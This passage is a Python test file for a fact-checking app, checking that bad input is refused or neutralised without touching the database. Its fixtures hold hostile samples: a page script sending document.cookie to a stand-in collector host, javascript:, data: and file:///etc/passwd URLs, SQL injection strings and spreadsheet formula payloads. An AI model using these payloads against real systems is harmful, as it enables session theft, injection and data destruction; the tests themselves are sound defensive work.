"""Bad input, table by table: the CLI, the services and the UI refuse it cleanly.

Every refusal must name the problem and say what to do (two key phrases per case), show no
traceback, and leave the database exactly as it was: ``snapshot`` (row counts of every table,
each claim's version and status, each account's state) is the same before and after. A few
kinds of odd input are accepted on purpose (a zero-width joiner inside an article, scripts in
a page, formulas and SQL in notes); their tests check what is stored and that it is safe.
Web pages come from a local server on 127.0.0.1, never the internet.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlmodel import Session, SQLModel, col, select
from streamlit.testing.v1 import AppTest

from factcheck.articles import add_article, get_article, list_articles
from factcheck.claims import ClaimFilter, add_claim, edit_claim, list_claims
from factcheck.db import get_engine, session_scope
from factcheck.errors import (
    BadInput,
    Conflict,
    Duplicate,
    FactcheckError,
    FetchFailed,
    LoginFailed,
    NotAllowed,
    NotFound,
)
from factcheck.exports import check_format, export_bytes
from factcheck.ingest import Document, from_file, from_html, from_text, from_url, store
from factcheck.models import Article, Claim, ClaimKind, Note, Role, Stance, Status, User
from factcheck.outlets import outlet_id_named
from factcheck.review import (
    add_evidence,
    add_note,
    assign,
    bulk_set_status,
    set_status,
    sign_off,
)
from factcheck.ui.common import USER_KEY
from factcheck.users import add_user, authenticate, set_active
from tests.factories import ARTICLE, make_article, make_user
from tests.localsite import LOCAL, closed_port, serving

PASSWORD = "correct horse battery"
MISSING = 999_999
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u200e\u200f \n\t"  # zero-width and direction marks

SCRIPTED_PAGE = """<!doctype html>
<html lang="en"><head><title>Reservoir falls to 41 per cent</title>
<script>var stolen = document.cookie; fetch('https://collector.invalid/?c=' + stolen);</script>
</head><body>
<article>
<h1>Reservoir falls to 41 per cent</h1>
<p>The Dunmere reservoir fell to 41 per cent of its capacity last week, the lowest level
recorded in August since the water board began publishing figures in 1996.</p>
<script>document.write('INJECTED-BY-SCRIPT');</script>
<p>Hosepipe use will be banned from Friday for about 230,000 households, the board's
operations director, Priya Castellanos, told the county council on Thursday.</p>
<noscript>NOSCRIPT-FALLBACK</noscript>
<p>"We need roughly six weeks of steady rain to recover," Castellanos said.</p>
<img src="missing.png" onerror="alert('ONERROR-HANDLER')">
</article>
</body></html>"""

ONLY_SCRIPT = "<html><body><script>alert('nothing else here');</script></body></html>"

# Invented articles with invisible characters inside real text.
JOINED = (
    "The harbour authority said on Tuesday that 1,250 containers were unloaded in March. "
    "Port director Amira Sa\u200dleh said the new cranes \u201cdoubled our speed\u201d. "
    "A family emoji \U0001f469\u200d\U0001f469\u200d\U0001f467 appeared in 3 posts about the "
    "opening, according to the port's press office."
)
RIGHT_TO_LEFT = (
    "Officials in the district of \u202bאל-חליל\u202c said 48 homes were damaged on Sunday, "
    "according to the civil defence office. The mayor, \u200fיוסף כהן\u200f, said that repairs "
    "would take at least 6 weeks and cost about 2 million shekels."
)


# ---- the local web site ------------------------------------------------------------------


class Site(BaseHTTPRequestHandler):
    """Pages that go wrong in every way a fetch can, and one page full of scripts."""

    def do_GET(self) -> None:  # noqa: N802 - the name http.server calls
        if self.path == "/scripts":
            self.reply(200, "text/html; charset=utf-8", SCRIPTED_PAGE.encode())
        elif self.path == "/photo.jpg":
            self.reply(200, "image/jpeg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4)
        elif self.path == "/report.pdf":
            self.reply(200, "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        elif self.path == "/huge":
            self.reply(200, "text/html", b"<p>" + b"rain " * 4000 + b"</p>")
        else:
            self.reply(404, "text/html", b"<h1>No such story</h1>")

    def reply(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Keep the test output quiet."""


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    """The base URL of the local site (allowed explicitly: it is not public)."""
    with pytest.MonkeyPatch.context() as patch, serving(Site) as url:
        patch.setenv("FACTCHECK_FETCH_ALLOW", LOCAL)
        yield url


# ---- the newsroom every case starts from -------------------------------------------------


@dataclass(frozen=True)
class World:
    """Accounts of every kind, one article with three claims, the second one verified."""

    url: str
    site: str
    admin: User
    editor: User
    reviewer: User
    disabled: User
    article: Article
    claims: list[Claim]  # unreviewed v1, verified (signed off) v3, unreviewed v1

    def claim(self, n: int) -> int:
        """The ID of claim ``n``."""
        return self.claims[n].id or 0


def build_world(url: str, site: str) -> World:
    """The newsroom of every case, written through the services."""
    with Session(get_engine(url), expire_on_commit=False) as s:
        admin = make_user(s, role=Role.ADMIN)
        editor = make_user(s, role=Role.EDITOR, email="editor@newsroom.test")
        reviewer = make_user(s, role=Role.REVIEWER, email="reviewer@newsroom.test")
        disabled = make_user(s, role=Role.EDITOR, email="gone@newsroom.test")
        disabled = set_active(s, email=disabled.email, active=False, by=admin)
        article, claims = make_article(s, by=editor)
        claims[1] = set_status(
            s, claim_id=claims[1].id or 0, status=Status.VERIFIED, by=editor, seen_version=1
        )  # a proposal (the two-person rule of a new desk) until another editor signs it off
        claims[1] = sign_off(s, claim_id=claims[1].id or 0, by=admin, seen_version=2)
    return World(url, site, admin, editor, reviewer, disabled, article, claims)


def snapshot(url: str) -> dict[str, Any]:
    """Row counts of every table, each claim's (id, version, status), each account's state."""
    with session_scope(url, readonly=True) as s:
        counts = {
            table.name: s.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()
            for table in SQLModel.metadata.sorted_tables
            if table.name != "login_failure"  # a failed log-in is counted on purpose (throttle)
        }
        claims = s.execute(
            sa.select(col(Claim.id), col(Claim.version), col(Claim.status)).order_by(col(Claim.id))
        ).all()
        users = s.execute(
            sa.select(col(User.email), col(User.role), col(User.active)).order_by(col(User.id))
        ).all()
    return {
        "counts": counts,
        "claims": [tuple(c) for c in claims],
        "users": [tuple(u) for u in users],
    }


def says(message: str, problem: str, advice: str) -> None:
    """The message names the problem and says what to do."""
    assert problem in message, f"{problem!r} not in {message!r}"
    assert advice in message, f"{advice!r} not in {message!r}"
    assert "Traceback" not in message


# ---- the services, on SQLite and PostgreSQL ----------------------------------------------

Act = Callable[[Session, World], object]


@dataclass(frozen=True)
class Case:
    """One kind of bad input: what is done, the error, and two phrases of its message."""

    name: str
    act: Act
    error: type[FactcheckError]
    problem: str
    advice: str
    env: dict[str, str] = field(default_factory=dict)


def big_paste() -> Document:
    """A genuine 50 MB paste."""
    line = "The council approved 14 new bus lanes on Monday, officials said.\n"
    return Document(text=line * (50 * 1024 * 1024 // len(line) + 1))


def review_note(body: str) -> Act:
    return lambda s, w: add_note(s, claim_id=w.claim(0), body=body, by=w.reviewer)


def evidence(url: str) -> Act:
    return lambda s, w: add_evidence(
        s, claim_id=w.claim(0), url=url, stance=Stance.SUPPORTS, by=w.reviewer
    )


def new_article(text: str, **more: Any) -> Act:
    return lambda s, w: add_article(s, title="Bad input", text=text, by=w.reviewer, **more)


def manual_claim(start: int, end: int, quote: str, article: int | None = None) -> Act:
    return lambda s, w: add_claim(
        s,
        article_id=article or w.article.id or 0,
        start=start,
        end=end,
        quote=quote,
        kind=ClaimKind.NUMERIC,
        by=w.reviewer,
    )


def fetched(path: str) -> Act:
    return lambda s, w: store(s, doc=from_url(w.site + path), by=w.reviewer)


def claims_page(**paging: Any) -> Act:
    return lambda s, w: list_claims(s, **paging)


SERVICE_CASES = [
    Case("empty text", new_article(""), BadInput, "The text is empty", "paste or upload"),
    Case("whitespace text", new_article(" \n\t \r\n"), BadInput, "is empty", "paste or upload"),
    Case("only invisible characters", new_article(INVISIBLE), BadInput, "is empty", "paste"),
    Case(
        "text over the limit",
        new_article("The dam holds 40 million cubic metres. " * 20),
        BadInput,
        "over the limit of 300",
        "raise FACTCHECK_MAX_TEXT_CHARS",
        {"FACTCHECK_MAX_TEXT_CHARS": "300"},
    ),
    Case(
        "genuine 50 MB paste",
        lambda s, w: store(s, doc=big_paste(), by=w.reviewer),
        BadInput,
        "over the limit of 1,000,000",
        "split it or raise FACTCHECK_MAX_TEXT_CHARS",
    ),
    Case(
        "50 MB through the paste loader",
        lambda s, w: from_text(big_paste().text),
        BadInput,
        "over the limit of 1,000,000",
        "split it",
    ),
    Case(
        "NUL bytes in text",
        new_article("Rain\x00fell\x00" * 40),
        BadInput,
        "looks like binary data",
        "give text or HTML",
    ),
    Case(
        "control characters in text",
        new_article("\x01\x02\x03\x04 The dam holds 40 million cubic metres." * 5),
        BadInput,
        "looks like binary data",
        "give text or HTML",
    ),
    Case(
        "lone surrogate (not valid Unicode)",
        new_article("The dam holds 40 million cubic metres \ud800 of water."),
        BadInput,
        "not valid Unicode",
        "save it as UTF-8",
    ),
    Case(
        "binary file",
        lambda s, w: from_file("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
        BadInput,
        "photo.jpg is a .jpg file",
        "give a .txt, .md or .html file",
    ),
    Case(
        "binary data named .txt",
        lambda s, w: from_file("notes.txt", b"GIF89a\x00\x01\x00\x01" * 20),
        BadInput,
        "looks like binary data",
        "give a .txt, .md or .html file",
    ),
    Case(
        "PDF file",
        lambda s, w: from_file("budget.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
        BadInput,
        "budget.pdf is a PDF",
        "copy its text",
    ),
    Case(
        "PDF named .txt",
        lambda s, w: from_file("budget.txt", b"%PDF-1.4\n1 0 obj\n"),
        BadInput,
        "is a PDF",
        "paste it instead",
    ),
    Case(
        "invalid UTF-8 file",
        lambda s, w: from_file("latin.txt", "Caf\xe9 owners said 30 shops shut.".encode("cp1252")),
        BadInput,
        "latin.txt is not valid utf-8 text",
        "save it as UTF-8",
    ),
    Case(
        "page that is only a script",
        lambda s, w: from_html(ONLY_SCRIPT, source="page.html"),
        BadInput,
        "page.html has no article text",
        "paste it instead",
    ),
    Case(
        "unreachable URL",
        lambda s, w: store(
            s, doc=from_url(f"http://127.0.0.1:{closed_port()}/story"), by=w.reviewer
        ),
        FetchFailed,
        "could not be reached",
        "check the address",
    ),
    Case("404 URL", fetched("/no-such-story"), FetchFailed, "answered 404", "check the address"),
    Case(
        "image URL",
        fetched("/photo.jpg"),
        FetchFailed,
        "is image/jpeg, not a web page",
        "give the address of an article page",
    ),
    Case(
        "PDF URL",
        fetched("/report.pdf"),
        FetchFailed,
        "is application/pdf, not a web page",
        "give the address of an article page",
    ),
    Case(
        "oversized URL",
        fetched("/huge"),
        FetchFailed,
        "over the limit of 2,000 bytes",
        "raise FACTCHECK_FETCH_MAX_BYTES",
        {"FACTCHECK_FETCH_MAX_BYTES": "2000"},
    ),
    Case(
        "javascript: URL to fetch",
        lambda s, w: from_url("javascript:alert(document.cookie)"),
        FetchFailed,
        "is not a web address",
        "must start with http:// or https://",
    ),
    Case(
        "file: URL to fetch",
        lambda s, w: from_url("file:///etc/passwd"),
        FetchFailed,
        "is not a web address",
        "must start with http:// or https://",
    ),
    Case(
        "duplicate article",
        lambda s, w: add_article(s, title="Again", text=w.article.text, by=w.reviewer),
        Duplicate,
        "already stored as article",
        "nothing was added",
    ),
    Case(
        "blank outlet name",
        new_article("The ferry carried 212 people on Friday.", outlet="   "),
        BadInput,
        "The outlet name is empty",
        "give the publication's name",
    ),
    Case(
        "unknown claim: status",
        lambda s, w: set_status(
            s, claim_id=MISSING, status=Status.FALSE, by=w.editor, seen_version=1
        ),
        NotFound,
        f"There is no claim {MISSING}",
        "pick one from the Claims list",
    ),
    Case(
        "unknown claim: note",
        lambda s, w: add_note(s, claim_id=MISSING, body="Checked.", by=w.reviewer),
        NotFound,
        f"There is no claim {MISSING}",
        "pick one",
    ),
    Case(
        "unknown claim: evidence",
        lambda s, w: add_evidence(
            s, claim_id=MISSING, url="https://example.org/", stance=Stance.CONTEXT, by=w.reviewer
        ),
        NotFound,
        f"There is no claim {MISSING}",
        "pick one",
    ),
    Case(
        "unknown article",
        lambda s, w: get_article(s, article_id=MISSING),
        NotFound,
        f"There is no article {MISSING}",
        "pick one from the Articles list",
    ),
    Case(
        "unknown article: manual claim",
        manual_claim(0, 5, "Flood", article=MISSING),
        NotFound,
        f"There is no article {MISSING}",
        "pick one",
    ),
    Case(
        "span past the end",
        manual_claim(10_000, 10_005, "3,400"),
        BadInput,
        "lies outside the article",
        "select the text again",
    ),
    Case(
        "negative span",
        manual_claim(-3, 2, "Fl"),
        BadInput,
        "lies outside the article",
        "select the text again",
    ),
    Case("empty span", manual_claim(5, 5, ""), BadInput, "lies outside", "select the text again"),
    Case(
        "quote not matching the span",
        manual_claim(0, 8, "Drought "),
        BadInput,
        "is not what the article says",
        "select the text again",
    ),
    Case(
        "javascript: evidence",
        evidence("javascript:alert(1)"),
        BadInput,
        "is not a web address",
        "must start with http:// or https://",
    ),
    Case(
        "data: evidence",
        evidence("data:text/html,<script>alert(1)</script>"),
        BadInput,
        "is not a web address",
        "must start with http",
    ),
    Case(
        "file: evidence",
        evidence("file:///etc/passwd"),
        BadInput,
        "is not a web address",
        "must start with http",
    ),
    Case(
        "evidence without a host",
        evidence("https://"),
        BadInput,
        "is not a web address",
        "must start with http",
    ),
    Case(
        "over-long note",
        review_note("Checked the bulletin. " * 10),
        BadInput,
        "over the limit of 100",
        "shorten it",
        {"FACTCHECK_MAX_NOTE_CHARS": "100"},
    ),
    Case(
        "over-long note with a verdict",
        lambda s, w: set_status(
            s,
            claim_id=w.claim(0),
            status=Status.IN_REVIEW,
            by=w.reviewer,
            seen_version=1,
            note="x" * 101,
        ),
        BadInput,
        "over the limit of 100",
        "shorten it",
        {"FACTCHECK_MAX_NOTE_CHARS": "100"},
    ),
    Case("empty note", review_note(" \n "), BadInput, "The note is empty", "write what you found"),
    Case(
        "wrong password",
        lambda s, w: authenticate(s, email=w.reviewer.email, password="Tr0ub4dor&3"),
        LoginFailed,
        "Wrong e-mail or password",
        "disabled",
    ),
    Case(
        "unknown e-mail at login",
        lambda s, w: authenticate(s, email="nobody@newsroom.test", password=PASSWORD),
        LoginFailed,
        "Wrong e-mail or password",
        "disabled",
    ),
    Case(
        "disabled user logs in",
        lambda s, w: authenticate(s, email=w.disabled.email, password=PASSWORD),
        LoginFailed,
        "Wrong e-mail or password",
        "disabled",
    ),
    Case(
        "disabled user acts",
        lambda s, w: add_note(s, claim_id=w.claim(0), body="Still here.", by=w.disabled),
        NotAllowed,
        "is disabled",
        "ask an admin to re-enable it",
    ),
    Case(
        "reviewer assigns",
        lambda s, w: assign(s, seen={w.claim(0): 1}, assignee=w.reviewer, by=w.reviewer),
        NotAllowed,
        "only an editor or above may assign claims",
        "Ask an editor",
    ),
    Case(
        "reviewer overrides a verdict",
        lambda s, w: set_status(
            s, claim_id=w.claim(1), status=Status.FALSE, by=w.reviewer, seen_version=3
        ),
        NotAllowed,
        "may change a final verdict",
        "Ask an editor",
    ),
    Case(
        "reviewer exports",
        lambda s, w: export_bytes(s, fmt="csv", where=ClaimFilter(), by=w.reviewer),
        NotAllowed,
        "may export reports",
        "Ask an editor",
    ),
    Case(
        "editor adds a user",
        lambda s, w: add_user(s, email="new@newsroom.test", role=Role.REVIEWER, by=w.editor),
        NotAllowed,
        "only an admin may manage users",
        "Ask an admin.",
    ),
    Case(
        "stale status change",
        lambda s, w: set_status(
            s, claim_id=w.claim(1), status=Status.FALSE, by=w.editor, seen_version=1
        ),
        Conflict,
        "changed since you opened it:",
        "reload the claim",
    ),
    Case(
        "stale claim in a bulk change",
        lambda s, w: bulk_set_status(
            s, seen={w.claim(0): 1, w.claim(1): 1}, status=Status.MISLEADING, by=w.editor
        ),
        Conflict,
        "Nothing was saved",
        "reload the claim",
    ),
    Case(
        "stale correction",
        lambda s, w: edit_claim(s, claim_id=w.claim(1), seen_version=1, by=w.editor, unit="mm"),
        Conflict,
        "changed since you opened it",
        "apply your change again",
    ),
    Case(
        "nothing selected for a bulk change",
        lambda s, w: bulk_set_status(s, seen={}, status=Status.FALSE, by=w.editor),
        BadInput,
        "No claims selected",
        "tick the claims",
    ),
    Case(
        "assigned to a disabled user",
        lambda s, w: assign(s, seen={w.claim(0): 1}, assignee=w.disabled, by=w.editor),
        BadInput,
        "is disabled and cannot be given claims",
        "choose an active",
    ),
    Case(
        "correcting a field that cannot be edited",
        lambda s, w: edit_claim(s, claim_id=w.claim(0), seen_version=1, by=w.editor, quote="x"),
        BadInput,
        "Cannot edit quote",
        "editable:",
    ),
    Case(
        "correction with nothing in it",
        lambda s, w: edit_claim(s, claim_id=w.claim(0), seen_version=1, by=w.editor),
        BadInput,
        "Nothing to change",
        "give at least one field",
    ),
    Case(
        "over-long unit",
        lambda s, w: edit_claim(
            s, claim_id=w.claim(0), seen_version=1, by=w.editor, unit="residents " * 15
        ),
        BadInput,
        "over the limit of 100",
        "shorten it",
    ),
    Case(
        "over-long qualifier",
        lambda s, w: edit_claim(
            s, claim_id=w.claim(0), seen_version=1, by=w.editor, qualifier="at least " * 10
        ),
        BadInput,
        "over the limit of 50",
        "shorten it",
    ),
    Case("negative limit", claims_page(limit=-5), BadInput, "-5", "at least 1"),
    Case("zero limit", claims_page(limit=0), BadInput, "0", "at least 1"),
    Case("negative offset", claims_page(offset=-1), BadInput, "-1", "skip 0 or more"),
    Case(
        "negative article page",
        lambda s, w: list_articles(s, limit=-1),
        BadInput,
        "-1",
        "at least 1",
    ),
    Case("unknown sort", claims_page(sort="votes"), BadInput, "Cannot sort by", "choose one of"),
    Case(
        "unknown export format",
        lambda s, w: check_format("docx"),
        BadInput,
        "Unknown export format 'docx'",
        "choose one of",
    ),
    Case(
        "unknown outlet",
        lambda s, w: outlet_id_named(s, name="Nowhere Gazette"),
        NotFound,
        "There is no outlet named 'Nowhere Gazette'",
        "check the spelling",
    ),
    Case(
        "not an e-mail address",
        lambda s, w: add_user(s, email="ana at newsroom", role=Role.REVIEWER, by=w.admin),
        BadInput,
        "is not an e-mail address",
        "give one like",
    ),
    Case(
        "short password",
        lambda s, w: add_user(
            s, email="ana@newsroom.test", role=Role.REVIEWER, password="abc", by=w.admin
        ),
        BadInput,
        "The password is too short",
        "use at least 8 characters",
    ),
    Case(
        "duplicate user",
        lambda s, w: add_user(s, email="Editor@Newsroom.test", role=Role.EDITOR, by=w.admin),
        Duplicate,
        "already exists",
        "factcheck user list",
    ),
    Case(
        "over-long display name",
        lambda s, w: add_user(
            s, email="ana@newsroom.test", role=Role.REVIEWER, display_name="Ana " * 60, by=w.admin
        ),
        BadInput,
        "over the limit of 200",
        "shorten it",
    ),
    Case(
        "admin disables themselves",
        lambda s, w: set_active(s, email=w.admin.email, active=False, by=w.admin),
        BadInput,
        "You cannot disable your own account",
        "ask another admin",
    ),
    Case(
        "second 'first admin'",
        lambda s, w: add_user(s, email="boss@newsroom.test", role=Role.ADMIN, by=None),
        BadInput,
        "Only an admin can add users",
        "name yourself with --by ADMIN_EMAIL",
    ),
]


@pytest.mark.parametrize("case", SERVICE_CASES, ids=lambda c: c.name)
def test_services_refuse_bad_input_and_write_nothing(
    case: Case, session: Session, db_url: str, site: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = build_world(db_url, site)
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    before = snapshot(db_url)
    with pytest.raises(case.error) as refused:
        case.act(session, world)
    says(str(refused.value), case.problem, case.advice)
    # A caller that goes on with the same session must not commit half a change.
    session.commit()
    assert snapshot(db_url) == before


# ---- odd input that is accepted, safely ---------------------------------------------------


def stored_claims(session: Session, article_id: int | None) -> list[Claim]:
    query = select(Claim).where(Claim.article_id == article_id).order_by(col(Claim.start))
    return list(session.exec(query).all())


@pytest.mark.parametrize("text", [JOINED, RIGHT_TO_LEFT], ids=["zero-width joiner", "rtl"])
def test_invisible_characters_inside_an_article_are_kept_and_spans_stay_valid(
    session: Session, text: str
) -> None:
    user = make_user(session)
    result = store(session, doc=from_text(text), by=user)
    stored = session.get(Article, result.article.id)
    assert stored is not None and stored.text == text  # nothing rewritten
    claims = stored_claims(session, stored.id)
    assert claims, "the figures around the invisible characters are still found"
    for claim in claims:
        assert stored.text[claim.start : claim.end] == claim.quote


def test_scripts_in_a_page_never_reach_the_stored_text(session: Session, site: str) -> None:
    user = make_user(session)
    result = store(session, doc=from_url(f"{site}/scripts"), by=user)
    text = result.article.text
    assert "41 per cent" in text and "230,000 households" in text
    for trace in ("document.cookie", "INJECTED-BY-SCRIPT", "ONERROR-HANDLER", "<script", "alert("):
        assert trace not in text
    assert result.article.title == "Reservoir falls to 41 per cent"


FORMULAS = ['=HYPERLINK("https://collector.invalid","Open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_spreadsheet_formulas_are_stored_verbatim_and_neutralised_in_csv(
    session: Session,
) -> None:
    editor = make_user(session, role=Role.EDITOR)
    _, claims = make_article(session, by=editor)
    target = claims[0].id or 0
    for formula in FORMULAS:
        add_note(session, claim_id=target, body=formula, by=editor)
    edit_claim(
        session, claim_id=target, seen_version=1, by=editor, measure=FORMULAS[0], speaker="=1+2"
    )
    notes = session.exec(select(Note.body).where(Note.claim_id == target).order_by(col(Note.id)))
    assert list(notes.all()) == FORMULAS
    data = export_bytes(
        session, fmt="csv", where=ClaimFilter(article_id=claims[0].article_id), by=editor
    )
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8")))}
    row = rows[str(target)]
    assert row["measure"] == "'" + FORMULAS[0]
    assert row["speaker"] == "'=1+2"
    for cells in rows.values():
        for value in cells.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert all(formula in row["notes"] for formula in FORMULAS)


SQL_LOOKING = [
    "Robert'); DROP TABLE claim;--",
    "' OR '1'='1",
    "1; DELETE FROM article WHERE 1=1",
    "%_\\",
]


def test_sql_looking_strings_are_stored_verbatim_and_tables_stay_intact(
    session: Session, db_url: str
) -> None:
    editor = make_user(session, role=Role.EDITOR)
    _, claims = make_article(session, by=editor, outlet=SQL_LOOKING[0])
    target = claims[0].id or 0
    before = snapshot(db_url)
    for body in SQL_LOOKING:
        add_note(session, claim_id=target, body=body, by=editor)
        rows, total = list_claims(session, where=ClaimFilter(search=body))
        assert (rows, total) == ([], 0)  # matched as text, not as SQL or wildcards
    after = snapshot(db_url)
    assert after["counts"] == {
        **before["counts"],
        "note": before["counts"]["note"] + 4,
        "event": before["counts"]["event"] + 4,
    }
    assert after["claims"] == before["claims"]
    notes = session.exec(select(Note.body).where(Note.claim_id == target).order_by(col(Note.id)))
    assert list(notes.all()) == SQL_LOOKING
    assert outlet_id_named(session, name=SQL_LOOKING[0]) > 0


# ---- the CLI, as a user runs it (SQLite) --------------------------------------------------


def factcheck(
    url: str, *args: str, stdin: bytes = b"", env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run `factcheck ARGS` against ``url``; standard input is bytes (it may be bad UTF-8)."""
    run_env = {**os.environ, "FACTCHECK_DATABASE_URL": url, "COLUMNS": "200", **(env or {})}
    done = subprocess.run(
        [sys.executable, "-m", "factcheck.cli", *args],
        input=stdin,
        capture_output=True,
        env=run_env,
        timeout=180,
        check=False,
    )
    return subprocess.CompletedProcess(
        done.args,
        done.returncode,
        done.stdout.decode("utf-8", "replace"),
        done.stderr.decode("utf-8", "replace"),
    )


Args = Callable[[World, Path], list[str]]


@dataclass(frozen=True)
class CliCase:
    """One bad command line: its arguments, standard input, and two phrases of the answer."""

    name: str
    args: Args
    problem: str
    advice: str
    stdin: bytes = b""
    env: dict[str, str] = field(default_factory=dict)
    code: int = 1


def file_with(name: str, data: bytes) -> Callable[[Path], str]:
    def write(folder: Path) -> str:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return str(path)

    return write


def ingest(source: Callable[[World, Path], str], user: str = "reviewer") -> Args:
    return lambda w, tmp: ["ingest", source(w, tmp), "--user", getattr(w, user).email]


def ingest_file(name: str, data: bytes) -> Args:
    return ingest(lambda w, tmp: file_with(name, data)(tmp))


def review(claim: int | None, *more: str, user: str = "editor") -> Args:
    return lambda w, tmp: [
        "review",
        str(w.claim(claim) if claim is not None else MISSING),
        "--user",
        getattr(w, user).email,
        *more,
    ]


def user_add(email: str, *, by: str) -> Args:
    """`factcheck user add EMAIL --by ...`, the password on standard input."""
    return lambda w, tmp: ["user", "add", email, "--by", getattr(w, by).email, "--password-stdin"]


def export(*more: str, user: str = "editor") -> Args:
    return lambda w, tmp: ["export", "--user", getattr(w, user).email, *more]


CLI_CASES = [
    CliCase("empty file", ingest_file("empty.txt", b"  \n\n "), "is empty", "paste or upload"),
    CliCase(
        "binary file",
        ingest_file("scan.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 8),
        "looks like binary data",
        "give a .txt, .md or .html file",
    ),
    CliCase(
        "PDF file",
        ingest_file("budget.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
        "is a PDF",
        "copy its text",
    ),
    CliCase(
        "invalid UTF-8 file",
        ingest_file("latin.txt", "Caf\xe9 owners said 30 shops shut.".encode("cp1252")),
        "is not valid utf-8 text",
        "save it as UTF-8",
    ),
    CliCase(
        "invalid UTF-8 on standard input",
        ingest(lambda w, tmp: "-"),
        "Standard input is not valid UTF-8",
        "convert it to UTF-8",
        stdin=b"Caf\xe9 owners said 30 shops shut.",
    ),
    CliCase(
        "paste over the limit on standard input",
        ingest(lambda w, tmp: "-"),
        "over the limit of 500",
        "raise FACTCHECK_MAX_TEXT_CHARS",
        stdin=b"The dam holds 40 million cubic metres. " * 40,
        env={"FACTCHECK_MAX_TEXT_CHARS": "500"},
    ),
    CliCase(
        "only zero-width characters on standard input",
        ingest(lambda w, tmp: "-"),
        "Standard input is empty",
        "paste or upload",
        stdin=INVISIBLE.encode(),
    ),
    CliCase(
        "404 URL",
        ingest(lambda w, tmp: f"{w.site}/no-such-story"),
        "answered 404 Not Found",
        "check the address",
    ),
    CliCase(
        "unreachable URL",
        ingest(lambda w, tmp: f"http://127.0.0.1:{closed_port()}/story"),
        "could not be reached",
        "check the address",
    ),
    CliCase(
        "non-HTML URL",
        ingest(lambda w, tmp: f"{w.site}/photo.jpg"),
        "is image/jpeg, not a web page",
        "give the address of an article page",
    ),
    CliCase(
        "oversized URL",
        ingest(lambda w, tmp: f"{w.site}/huge"),
        "over the limit of 2,000 bytes",
        "raise FACTCHECK_FETCH_MAX_BYTES",
        env={"FACTCHECK_FETCH_MAX_BYTES": "2000"},
    ),
    CliCase(
        "javascript: source",
        ingest(lambda w, tmp: "javascript:alert(1)"),
        "is no file, folder or web address",
        "check the path",
    ),
    CliCase(
        "folder with no articles",
        ingest(lambda w, tmp: str(Path(file_with("scans/a.png", b"\x89PNG")(tmp)).parent)),
        "is a folder with no",
        ".txt files",
    ),
    CliCase(
        "missing file",
        ingest(lambda w, tmp: str(tmp / "nowhere.txt")),
        "is no file, folder or web address",
        "check the path",
    ),
    CliCase(
        "duplicate ingest",
        ingest(lambda w, tmp: file_with("again.txt", w.article.text.encode())(tmp)),
        "1 duplicate",
        "Added 0 articles",
        code=0,
    ),
    CliCase(
        "unknown user ingests",
        lambda w, tmp: ["ingest", "-", "--user", "nobody@newsroom.test"],
        "No user 'nobody@newsroom.test'",
        "factcheck user add",
        stdin=ARTICLE.encode(),
    ),
    CliCase(
        "disabled user ingests",
        ingest(
            lambda w, tmp: file_with("story.txt", b"The ferry carried 212 people.")(tmp), "disabled"
        ),
        "is disabled",
        "ask an admin to re-enable it",
    ),
    CliCase(
        "unknown claim",
        review(None, "--status", "verified"),
        f"There is no claim {MISSING}",
        "pick one",
    ),
    CliCase(
        "invalid status",
        review(0, "--status", "done"),
        "Invalid value for '--status'",
        "'done' is not one of 'unreviewed', 'in_review'",
        code=2,
    ),
    CliCase(
        "invalid stance",
        review(0, "--status", "verified", "--evidence", "https://a.example/", "--stance", "maybe"),
        "Invalid value for '--stance'",
        "'maybe' is not one of 'supports', 'refutes', 'context'",
        code=2,
    ),
    CliCase(
        "javascript: evidence",
        review(0, "--status", "verified", "--evidence", "javascript:alert(1)"),
        "is not a web address",
        "must start with http",
    ),
    CliCase(
        "data: evidence",
        review(0, "--status", "verified", "--evidence", "data:text/html,<b>hi</b>"),
        "is not a web address",
        "must start with http",
    ),
    CliCase(
        "file: evidence",
        review(0, "--status", "verified", "--evidence", "file:///etc/passwd"),
        "is not a web address",
        "must start with http",
    ),
    CliCase(
        "over-long note",
        review(0, "--status", "verified", "--note", "Checked twice. " * 10),
        "over the limit of 50",
        "shorten it",
        env={"FACTCHECK_MAX_NOTE_CHARS": "50"},
    ),
    CliCase(
        "stale version",
        review(1, "--status", "false", "--seen-version", "1"),
        "changed since you opened it",
        "reload the claim",
    ),
    CliCase(
        "reviewer overrides a verdict",
        review(1, "--status", "false", user="reviewer"),
        "only an editor or above may change a final verdict",
        "Ask an editor",
    ),
    CliCase(
        "disabled user reviews",
        review(0, "--status", "verified", user="disabled"),
        "is disabled",
        "ask an admin",
    ),
    CliCase(
        "unknown user reviews",
        lambda w, tmp: ["review", str(w.claim(0)), "--status", "verified", "--user", "x@y.test"],
        "No user 'x@y.test'",
        "factcheck user add",
    ),
    CliCase("negative limit", lambda w, tmp: ["claims", "--limit", "-5"], "-5", "at least 1"),
    CliCase("zero limit", lambda w, tmp: ["claims", "--limit", "0"], "0", "at least 1"),
    CliCase("negative offset", lambda w, tmp: ["claims", "--offset", "-2"], "-2", "0 or more"),
    CliCase(
        "unknown claim status filter",
        lambda w, tmp: ["claims", "--status", "bogus"],
